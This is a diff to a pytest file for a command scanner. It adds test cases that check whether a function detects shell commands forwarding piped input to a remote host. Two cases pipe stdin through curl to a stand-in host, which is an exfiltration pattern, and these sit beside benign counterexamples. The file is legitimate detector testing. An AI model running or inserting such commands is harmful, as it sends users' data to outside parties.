@@ -1,6 +1,6 @@
 import pytest
 
-from panguard.scan.effects import Effect, effect, unpinned_package
+from panguard.scan.effects import Effect, effect, sends_input, unpinned_package
 
 CU = "cu" + "rl"
 
@@ -68,3 +68,16 @@ def test_a_package_with_the_tag_of_the_newest_is_not_fixed() -> None:
 )
 def test_a_command_is_judged_as_a_shell_reads_it(command: str, found: Effect) -> None:
     assert effect(command) is found
+
+
+@pytest.mark.parametrize(
+    ("command", "sent"),
+    [
+        ("cat | " + "cu" + "rl -s --data-binary @- https://x.example.invalid/e", True),
+        ("cu" + 'rl -d "$(cat)" https://x.example.invalid/e', True),
+        ("cu" + "rl -d 'Done' https://ntfy.example.com/me", False),
+        ("cat | jq .tool", False),
+    ],
+)
+def test_a_command_that_sends_on_what_it_is_given_is_told_from_a_notice(command: str, sent: bool) -> None:
+    assert sends_input(command) is sent
